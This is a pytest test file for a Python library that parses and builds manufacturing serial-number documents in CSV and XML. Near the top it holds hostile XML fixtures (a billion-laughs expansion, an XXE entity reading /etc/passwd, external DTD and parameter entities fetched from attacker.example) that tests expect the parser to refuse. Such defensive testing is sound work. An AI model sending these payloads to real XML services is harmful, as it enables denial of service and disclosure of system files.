from __future__ import annotations

import datetime as dt
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pywats_production.errors import UnsafeXmlError, WatsInputError, WatsResponseError
from pywats_production.models import Drift, SerialNumberRecord, add_drift_handler
from pywats_production.serials import (
    CSV_HEADER,
    build_upload,
    iter_export,
    iter_export_csv,
    iter_export_xml,
    normalize_format,
    parse_export,
    parse_take,
    parse_take_csv,
    parse_take_xml,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<SerialNumbers><SN id="&lol9;"/></SerialNumbers>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<SerialNumbers><SN id="&xxe;"/></SerialNumbers>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE SerialNumbers SYSTEM "http://attacker.example/evil.dtd">
<SerialNumbers><SN id="A"/></SerialNumbers>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<SerialNumbers/>"""

UNPARSED_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!NOTATION gif SYSTEM "image/gif"><!ENTITY pic SYSTEM "x.gif" NDATA gif>]>
<SerialNumbers/>"""

UNSAFE = [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, UNPARSED_ENTITY]

DOC_CSV = (
    b"SerialNumber,Taken,TakenUtc,RefSN,RefPN,StationName\n"
    b"SN00000001,true,2026-11-26T05:00:00Z,PCBA-SN-1,PCBA-100,ICT-01\n"
    b"SN00000002,false,,,,\n"
)
DOC_XML = b"""<SerialNumbers type="SerialNumber">
  <SN id="SN00000001" taken="true" takenUtc="2026-11-26T05:00:00Z" refSN="PCBA-SN-1" refPN="PCBA-100" stationName="ICT-01"/>
  <SN id="SN00000002" taken="false"/>
</SerialNumbers>
"""
DOC_RECORDS = [
    SerialNumberRecord(
        serial_number="SN00000001",
        taken=True,
        taken_at=dt.datetime(2026, 11, 26, 5, tzinfo=dt.UTC),
        ref_serial_number="PCBA-SN-1",
        ref_part_number="PCBA-100",
        station_name="ICT-01",
    ),
    SerialNumberRecord(serial_number="SN00000002", taken=False),
]


def chunked(data: bytes, size: int) -> list[bytes]:
    return [data[i : i + size] for i in range(0, len(data), size)] or [b""]


# --- normalize_format ---------------------------------------------------------------------


@pytest.mark.parametrize(("value", "expected"), [("XML", "XML"), ("xml", "XML"), (" Csv ", "CSV")])
def test_normalize_format(value, expected):
    assert normalize_format(value) == expected


@pytest.mark.parametrize("value", ["JSON", "", "X ML", "xmls"])
def test_normalize_format_refuses(value):
    with pytest.raises(WatsInputError) as info:
        normalize_format(value)
    assert info.value.parameter == "format"


def test_normalize_format_type():
    with pytest.raises(TypeError):
        normalize_format(1)  # type: ignore[arg-type]


# --- Take ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        b'<SerialNumbers><SN id="SN00000001"/><SN id="SN00000002"/></SerialNumbers>',
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<SerialNumbers>\r\n<SN id="SN00000001"/>'
        b'\r\n<SN id="SN00000002"/>\r\n</SerialNumbers>\r\n',
        b'\xef\xbb\xbf<SerialNumbers><SN id="SN00000001"/><SN id="SN00000002"/></SerialNumbers>',
        b'<SerialNumbers xmlns="urn:wats"><SN id="SN00000001"/><SN id="SN00000002"/></SerialNumbers>',
        b'<w:SerialNumbers xmlns:w="urn:wats"><w:SN id="SN00000001"/><w:SN w:id="SN00000002"/>'
        b"</w:SerialNumbers>",
        b"<SerialNumbers><SN>SN00000001</SN><SN> SN00000002 </SN></SerialNumbers>",
        b"<SerialNumbers><SN><Id>SN00000001</Id></SN><SN><Id>SN00000002</Id></SN></SerialNumbers>",
        b'<ArrayOfString xmlns="http://schemas.microsoft.com/2003/10/Serialization/Arrays">'
        b"<string>SN00000001</string><string>SN00000002</string></ArrayOfString>",
        '<SerialNumbers><SN id="SN00000001"/><SN id="SN00000002"/></SerialNumbers>',
        '\ufeff<?xml version="1.0" encoding="utf-16"?><SerialNumbers><SN id="SN00000001"/>'
        '<SN id="SN00000002"/></SerialNumbers>',
        '<?xml version="1.0" encoding="utf-16"?><SerialNumbers><SN id="SN00000001"/>'
        '<SN id="SN00000002"/></SerialNumbers>'.encode("utf-16"),
    ],
)
def test_take_xml_variants(body):
    assert parse_take_xml(body) == ["SN00000001", "SN00000002"]
    assert parse_take(body, "XML") == ["SN00000001", "SN00000002"]


def test_take_xml_escapes_and_unicode():
    body = '<SerialNumbers><SN id="A&amp;B&lt;1&gt;"/><SN id="Ø-漢"/></SerialNumbers>'.encode()
    assert parse_take_xml(body) == ["A&B<1>", "Ø-漢"]


def test_take_xml_empty_pool():
    assert parse_take_xml(b"<SerialNumbers/>") == []
    assert parse_take_xml(b"<SerialNumbers></SerialNumbers>") == []


@pytest.mark.parametrize(
    "body",
    [b"<SerialNumbers><SN id='A'/>", b"not xml", b"", b"<a><b></a>", b"<SN id='&undefined;'/>"],
)
def test_take_xml_malformed(body):
    with pytest.raises(WatsResponseError) as info:
        parse_take_xml(body)
    assert not isinstance(info.value, UnsafeXmlError)


def test_take_xml_wrong_root():
    with pytest.raises(WatsResponseError, match="SerialNumbers"):
        parse_take_xml(b"<Error><Message>boom</Message></Error>")


@pytest.mark.parametrize("body", UNSAFE, ids=["laughs", "xxe", "dtd", "param", "unparsed"])
def test_take_xml_refuses_unsafe_documents(body):
    start = time.perf_counter()
    with pytest.raises(UnsafeXmlError):
        parse_take_xml(body)
    with pytest.raises(UnsafeXmlError):
        parse_take(body, None)
    with pytest.raises(UnsafeXmlError):
        parse_export(body, "XML")
    assert time.perf_counter() - start < 1.0  # refused before any expansion


@pytest.mark.parametrize(
    "body",
    [
        b"SN00000001\nSN00000002\n",
        b"SN00000001\r\nSN00000002\r\n",
        b"\xef\xbb\xbfSN00000001\nSN00000002",
        b"\n\nSN00000001\n\n  \nSN00000002\n\n",
        b"SerialNumber\nSN00000001\nSN00000002\n",
        b"sn\r\nSN00000001\r\nSN00000002\r\n",
        b"Id\nSN00000001\nSN00000002\n",
        b"ADDRESS\nSN00000001\nSN00000002\n",
        b"Serial Number,Taken\nSN00000001,true\nSN00000002,false\n",
        b'"SN00000001",x,y\n"SN00000002"\n',
        "SN00000001\nSN00000002\n",
    ],
)
def test_take_csv_variants(body):
    assert parse_take_csv(body) == ["SN00000001", "SN00000002"]
    assert parse_take(body, "csv") == ["SN00000001", "SN00000002"]


def test_take_csv_quoted_comma_and_not_utf8():
    assert parse_take_csv(b'"A,1"\nB\n') == ["A,1", "B"]
    with pytest.raises(WatsResponseError, match="UTF-8"):
        parse_take_csv(b"\xff\xfeA\n")


def test_take_header_only_skipped_on_first_line():
    assert parse_take_csv(b"A1\nSN\n") == ["A1", "SN"]


def test_parse_take_sniffs_when_format_is_none():
    assert parse_take(b"  <SerialNumbers><SN id='A'/></SerialNumbers>") == ["A"]
    assert parse_take(b"A\nB\n") == ["A", "B"]
    with pytest.raises(WatsInputError):
        parse_take(b"A", "JSON")


@pytest.mark.slow
def test_large_take_100k():
    numbers = [f"SN{i:08d}" for i in range(100_000)]
    xml = "<SerialNumbers>" + "".join(f'<SN id="{n}"/>' for n in numbers) + "</SerialNumbers>"
    csv_body = "\n".join(numbers) + "\n"
    start = time.perf_counter()
    assert parse_take(xml.encode(), "XML") == numbers
    assert parse_take(csv_body.encode(), "CSV") == numbers
    assert time.perf_counter() - start < 5.0


# --- Export -------------------------------------------------------------------------------


def test_export_csv_doc_example():
    assert parse_export(DOC_CSV, "CSV") == DOC_RECORDS


def test_export_xml_doc_example():
    assert parse_export(DOC_XML, "XML") == DOC_RECORDS


def test_export_csv_variants():
    body = (
        b"\xef\xbb\xbfserial_number , TAKEN,takenUtc,refsn,RefPN,Station Name,Batch\r\n"
        b"\r\n"
        b'A1,True,2026-11-26T05:00:00,R,P,"S,1",B7\r\n'
        b"A2,0,,,,,\r\n"
    )
    records = parse_export(body, "csv")
    assert records[0].serial_number == "A1"
    assert records[0].taken is True
    assert records[0].taken_at == dt.datetime(2026, 11, 26, 5)
    assert records[0].station_name == "S,1"
    assert records[0].extra == {"Batch": "B7"}
    assert records[1].taken is False
    assert records[1].ref_serial_number is None
    assert records[1].extra == {}


def test_export_csv_without_header_is_positional():
    records = parse_export(b"A1,true,2026-11-26T05:00:00Z,R,P,S,extra\nA2\n", "CSV")
    assert records[0].ref_part_number == "P"
    assert records[0].station_name == "S"
    assert records[0].extra == {"column7": "extra"}
    assert records[1] == SerialNumberRecord(serial_number="A2")


@pytest.mark.parametrize(
    ("body", "field"),
    [
        (b"SerialNumber,Taken\nA1,maybe\n", "taken"),
        (b"SerialNumber,TakenUtc\nA1,yesterday\n", "takenUtc"),
    ],
)
def test_export_csv_bad_values_are_kept_raw_and_reported(body, field):
    """An unreadable cell never fails the export: the record is read, the cell is kept
    raw in ``extra`` under its wire name, and the drift is reported."""
    seen: list[Drift] = []
    remove = add_drift_handler(seen.append)
    try:
        (record,) = parse_export(body, "CSV")
    finally:
        remove()
    assert record.serial_number == "A1"
    assert record.taken is None and record.taken_at is None
    assert record.extra[field] == body.decode().split("\n")[1].split(",")[1]
    assert [d.member for d in seen] == [f"export CSV.{field}"]


def test_export_csv_row_without_number():
    with pytest.raises(WatsResponseError):
        parse_export(b"SerialNumber,Taken\n,true\n", "CSV")


def test_export_xml_variants():
    body = (
        b'<ns:SerialNumbers xmlns:ns="urn:x"><ns:SN ID="A1" Taken="TRUE" takenUtc="2026-01-01T00:00:00Z"'
        b' refSN="R" extraAttr="e"/><ns:SN><id>A2</id><taken>false</taken></ns:SN>'
        b"<ns:SN>A3</ns:SN></ns:SerialNumbers>"
    )
    records = parse_export(body, "XML")
    assert [r.serial_number for r in records] == ["A1", "A2", "A3"]
    assert records[0].taken is True
    assert records[0].taken_at == dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    assert records[0].ref_serial_number == "R"
    assert records[0].extra == {"extraAttr": "e"}
    assert records[1].taken is False
    assert records[2].taken is None


def test_export_xml_sn_without_number():
    with pytest.raises(WatsResponseError):
        parse_export(b'<SerialNumbers><SN taken="true"/></SerialNumbers>', "XML")


@pytest.mark.parametrize("size", [1, 2, 3, 7, 64, 1000])
def test_streaming_equals_whole_parse(size):
    assert list(iter_export_csv(chunked(DOC_CSV, size))) == DOC_RECORDS
    assert list(iter_export_xml(chunked(DOC_XML, size))) == DOC_RECORDS


def test_streaming_csv_splits_multibyte_characters():
    body = "SerialNumber,StationName\nA1,Stasjon-Ø漢\n".encode()
    for size in range(1, 8):
        records = list(iter_export_csv(chunked(body, size)))
        assert records[0].station_name == "Stasjon-Ø漢"


def test_streaming_is_incremental():
    consumed = []

    def source(data: bytes):
        for chunk in chunked(data, 16):
            consumed.append(chunk)
            yield chunk

    rows = b"SerialNumber\n" + b"".join(f"SN{i:06d}\n".encode() for i in range(1000))
    first = next(iter_export_csv(source(rows)))
    assert first.serial_number == "SN000000"
    assert sum(len(c) for c in consumed) < 100

    consumed.clear()
    doc = b"<SerialNumbers>" + b"".join(f'<SN id="SN{i:06d}"/>'.encode() for i in range(1000))
    doc += b"</SerialNumbers>"
    first = next(iter_export_xml(source(doc)))
    assert first.serial_number == "SN000000"
    assert sum(len(c) for c in consumed) < 100


@pytest.mark.parametrize("body", UNSAFE, ids=["laughs", "xxe", "dtd", "param", "unparsed"])
def test_streaming_refuses_unsafe_documents(body):
    with pytest.raises(UnsafeXmlError):
        list(iter_export_xml(chunked(body, 5)))


def test_streaming_xml_malformed_at_end():
    with pytest.raises(WatsResponseError):
        list(iter_export_xml([b"<SerialNumbers><SN id='A'/>"]))


def test_iter_export_dispatch():
    assert list(iter_export([DOC_CSV], "csv")) == DOC_RECORDS
    assert list(iter_export([DOC_XML], "Xml")) == DOC_RECORDS
    with pytest.raises(WatsInputError):
        iter_export([DOC_CSV], "txt")


@settings(max_examples=30)
@given(data=st.data(), fmt=st.sampled_from(["CSV", "XML"]))
def test_streaming_any_split(data, fmt):
    body = DOC_CSV if fmt == "CSV" else DOC_XML
    cuts = sorted(data.draw(st.lists(st.integers(0, len(body)), max_size=12)))
    pieces = [body[a:b] for a, b in zip([0, *cuts], [*cuts, len(body)], strict=True)]
    assert list(iter_export(pieces, fmt)) == DOC_RECORDS


# --- Upload -------------------------------------------------------------------------------


def test_build_upload_csv_matches_doc():
    assert build_upload(DOC_RECORDS, "CSV") == DOC_CSV


def test_build_upload_xml_matches_doc_layout():
    body = build_upload(DOC_RECORDS, "XML")
    assert body.startswith(b'<?xml version="1.0" encoding="utf-8"?>\n<SerialNumbers>\n')
    assert (
        b'  <SN id="SN00000001" taken="true" takenUtc="2026-11-26T05:00:00Z" refSN="PCBA-SN-1" '
        b'refPN="PCBA-100" stationName="ICT-01"/>\n' in body
    )
    assert b'  <SN id="SN00000002" taken="false"/>\n' in body
    assert parse_export(body, "XML") == DOC_RECORDS


def test_build_upload_plain_numbers_and_empty():
    assert build_upload(["A", "B"], "CSV") == (
        ",".join(CSV_HEADER).encode() + b"\nA,,,,,\nB,,,,,\n"
    )
    assert parse_take(build_upload(["A", "B"], "xml"), "XML") == ["A", "B"]
    assert parse_export(build_upload([], "CSV"), "CSV") == []
    assert parse_export(build_upload([], "XML"), "XML") == []


def test_build_upload_times_in_utc():
    cet = dt.timezone(dt.timedelta(hours=1))
    record = SerialNumberRecord(
        serial_number="A", taken=True, taken_at=dt.datetime(2026, 1, 1, 6, tzinfo=cet)
    )
    assert b"2026-01-01T05:00:00Z" in build_upload([record], "CSV")


@pytest.mark.parametrize("bad", ["", "  ", "A\nB", "A\x00"])
def test_build_upload_refuses_bad_numbers(bad):
    with pytest.raises(WatsInputError):
        build_upload(["OK", bad], "CSV")
    with pytest.raises(WatsInputError):
        build_upload([SerialNumberRecord(serial_number="OK", station_name=bad or "\t")], "XML")


def test_build_upload_refuses_wrong_item_type():
    with pytest.raises(TypeError):
        build_upload([1], "CSV")  # type: ignore[list-item]


_cell = st.text(
    st.characters(exclude_categories=("Cs", "Cc"), exclude_characters="\ufeff\u2028\u2029\x85"),
    min_size=1,
    max_size=12,
).filter(lambda s: s.strip() == s and s != "")
_records = st.builds(
    SerialNumberRecord,
    serial_number=_cell.filter(
        lambda s: (
            s.lower().replace(" ", "").replace("_", "")
            not in {"serialnumber", "sn", "id", "address"}
        )
    ),
    taken=st.none() | st.booleans(),
    taken_at=st.none()
    | st.datetimes(
        min_value=dt.datetime(1900, 1, 1),
        max_value=dt.datetime(2100, 1, 1),
        timezones=st.just(dt.UTC),
    ),
    ref_serial_number=st.none() | _cell,
    ref_part_number=st.none() | _cell,
    station_name=st.none() | _cell,
)


@settings(max_examples=60)
@given(st.lists(_records, max_size=8), st.sampled_from(["CSV", "XML"]))
def test_upload_then_export_round_trip(records, fmt):
    body = build_upload(records, fmt)
    assert parse_export(body, fmt) == records
    assert list(iter_export(chunked(body, 3), fmt)) == records
